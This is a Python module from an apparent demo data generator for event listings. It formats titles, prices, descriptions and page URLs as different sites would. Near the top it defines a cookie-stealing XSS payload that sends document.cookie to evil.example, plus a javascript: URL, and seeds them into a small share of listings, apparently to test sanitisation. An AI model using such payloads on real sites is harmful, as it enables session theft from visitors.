"""How sites word the same thing differently: titles, prices, descriptions.

Shared by the renderers, so that each source is messy in its own way but the code is in one place.
"""

from __future__ import annotations

from include.demo.model import DemoEvent, Status

HOSTILE_HTML = '<script>document.location="https://evil.example/?c="+document.cookie</script>'
HOSTILE_URL = "javascript:alert(document.domain)"
_HOSTILE_SHARE = 0.015
_PREFIXED_SHARE = 0.6


def is_hostile(event: DemoEvent) -> bool:
    """Whether this listing carries a script: a few in every feed do."""
    return event.chance("hostile", _HOSTILE_SHARE)


def says_status_in_title(event: DemoEvent) -> bool:
    """Whether the site wrote 'cancelled' or 'postponed' into the title, as editors do."""
    in_question = event.status in (Status.CANCELLED, Status.POSTPONED)
    return in_question and event.chance("prefix", _PREFIXED_SHARE)


def listed_title(event: DemoEvent, source: str) -> str:
    """Return the title as this source writes it: its own words for events of others."""
    title = event.title
    if source != event.venue.source:
        template = event.dice(source).choice(event.city.phrases.relisted)
        title = template.format(title=title, venue=event.venue.name)
    if says_status_in_title(event):
        phrases = event.city.phrases
        is_cancelled = event.status is Status.CANCELLED
        title = f"{phrases.cancelled if is_cancelled else phrases.postponed} {title}"
    return title


def price_text(event: DemoEvent) -> str:
    """Return the price in the words of the city: '10 – 25 zł', 'Gratuit'."""
    phrases = event.city.phrases
    if event.price is None:
        return phrases.free
    low, high = event.price
    return (phrases.single_price if low == high else phrases.price).format(low=low, high=high)


def description_text(event: DemoEvent) -> str:
    """Return the description as plain text of one or two paragraphs."""
    names = ", ".join(event.performers)
    head = f"{names} – {event.venue.name}." if names else f"{event.venue.name}."
    tail = "" if event.all_day else f"\n{event.city.phrases.doors}"
    return f"{head} {event.programme.blurb}{tail}"


def page_url(event: DemoEvent, source: str) -> str:
    """Address of the event's page; ``.example`` never resolves, so nobody is sent anywhere."""
    return f"https://{source}.example/{event.city.slug}/event/{event.key}/"
